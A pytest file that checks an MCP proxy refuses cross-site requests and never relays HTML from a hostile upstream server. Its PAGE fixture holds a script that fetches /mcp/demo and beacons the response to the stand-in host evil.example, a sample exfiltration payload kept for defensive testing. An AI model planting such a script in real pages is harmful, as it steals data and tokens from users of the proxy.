"""A hostile upstream gets nothing (issue 16, item 1): its HTML never runs on mcpproxy's origin, and no
other site's page reaches /mcp with a server's token.

The hostile upstream is this test's own HTTP server on loopback: it answers every request with an HTML
page whose script would call /mcp/OTHER, and records what reached it.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
import requests

from tests.conftest import ServiceFactory
from tests.harness import ServiceHandle
from tests.mcpserver.control import MCPServerHandle

PAGE = b"<html><script>fetch('/mcp/demo',{method:'POST',body:'{}'}).then(r=>r.text()).then(t=>navigator.sendBeacon('http://evil.example',t))</script></html>"
INITIALIZE = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
              "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                         "clientInfo": {"name": "hostile-test", "version": "0"}}}
MCP_ACCEPT = "application/json, text/event-stream"
# What Chromium sends for a link followed from another site, and for an <img> on another site's page.
NAVIGATION = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document",
              "Sec-Fetch-User": "?1", "Accept": "text/html"}
IMAGE = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}


class HostileUpstream:
    def __init__(self) -> None:
        self.requests: list[tuple[str, str, dict[str, str]]] = []
        upstream = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                upstream.requests.append((self.command, self.path, dict(self.headers)))
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(PAGE)))
                self.end_headers()
                self.wfile.write(PAGE)

            do_GET = do_POST = do_DELETE = _answer

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/mcp"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)


@pytest.fixture
def hostile() -> Iterator[HostileUpstream]:
    up = HostileUpstream()
    yield up
    up.close()


@pytest.fixture
def svc(service_factory: ServiceFactory, mcp_server: MCPServerHandle, hostile: HostileUpstream) -> ServiceHandle:
    svc = service_factory([
        {"name": "demo", "url": mcp_server.url, "protocol": "http", "oauth": {}},
        {"name": "hostile", "url": hostile.url, "protocol": "http", "oauth": None},
    ])
    svc.login("demo")
    return svc


def _assert_sealed(r: requests.Response) -> None:
    assert r.headers.get("Content-Security-Policy") == "sandbox; default-src 'none'", dict(r.headers)
    assert r.headers.get("X-Content-Type-Options") == "nosniff", dict(r.headers)


def test_another_sites_page_never_reaches_the_upstream(svc: ServiceHandle, hostile: HostileUpstream) -> None:
    cases = [
        ("GET", NAVIGATION),
        ("GET", IMAGE),
        ("POST", {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty"}),
        ("POST", {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty"}),
        ("POST", {"Sec-Fetch-Site": "none", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}),
    ]
    for name in ("hostile", "demo"):
        for method, headers in cases:
            r = requests.request(method, f"{svc.base_url}/mcp/{name}?attacker=1", json=INITIALIZE, timeout=30,
                                 headers=headers)
            assert r.status_code == 403, (name, method, headers, r.status_code, r.text[:200])
            assert "Sec-Fetch" in r.text, r.text
            _assert_sealed(r)
    assert hostile.requests == [], "a refused request reached the upstream"
    # An MCP client sends no fetch metadata, and a script on our own origin says same-origin: both pass.
    for extra in ({}, {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}):
        r = requests.post(f"{svc.base_url}/mcp/demo", json=INITIALIZE, timeout=30,
                          headers={"Accept": MCP_ACCEPT, **extra})
        assert r.status_code == 200, (extra, r.status_code, r.text[:300])
        _assert_sealed(r)


def test_an_upstream_html_page_is_never_served(svc: ServiceHandle, hostile: HostileUpstream) -> None:
    for method in ("GET", "POST", "DELETE"):
        r = requests.request(method, f"{svc.base_url}/mcp/hostile", json=INITIALIZE, timeout=30,
                             headers={"Accept": MCP_ACCEPT})
        assert r.headers["Content-Type"].startswith("application/json"), (method, dict(r.headers))
        assert b"<script" not in r.content and b"<html" not in r.content, r.content[:300]
        body = r.json()
        assert r.status_code == 502 and body["error"]["data"]["kind"] == "upstream", (r.status_code, body)
        assert "text/html" in body["error"]["message"], body
        _assert_sealed(r)
    assert len(hostile.requests) == 3
    assert "hostile" in svc.logs() and "not relayed" in svc.logs()
